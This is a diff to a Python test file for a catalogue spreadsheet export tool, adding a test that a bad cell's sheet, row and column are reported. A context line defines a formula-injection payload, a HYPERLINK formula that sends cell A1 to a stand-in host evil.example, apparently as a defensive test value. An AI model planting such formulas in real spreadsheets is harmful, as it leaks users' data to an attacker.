@@ -29,6 +29,7 @@ from article8.controls.catalogue.services import (
 )
 from article8.core.db import Database
 from article8.core.models import AuditEvent
+from article8.core.tabular import Code
 from tests.conftest import SYSTEM_ACTOR, TEST_ARGON2, FakeClock
 
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
@@ -376,3 +377,22 @@ def test_cli_exports_sync_back_unchanged(fresh_database_url: str, tmp_path: Path
         report = json.loads(synced.stdout)
         assert report["changed"] is False, (fmt, report)
         assert report["unchanged"] == len(load_catalogue())
+
+
+def test_a_bad_cell_carries_its_sheet_row_column_and_what_was_expected(
+    session: Session, tmp_path: Path, catalogue: None
+):
+    path = tmp_path / "catalogue.xlsx"
+    export_xlsx(session, path)
+    workbook = load_workbook(path)
+    _set("controls", "H2", "yes")(workbook)
+    workbook.save(path)
+    workbook.close()
+    with pytest.raises(CatalogueError) as error:
+        read_xlsx(path)
+    detail = error.value.detail
+    assert detail is not None
+    assert (detail.file, detail.sheet, detail.line, detail.column) == (
+        "catalogue.xlsx", "controls", 2, "article8_explicit",
+    )  # fmt: skip
+    assert (detail.code, detail.expected, detail.found) == (Code.VALUE, "TRUE or FALSE", "yes")
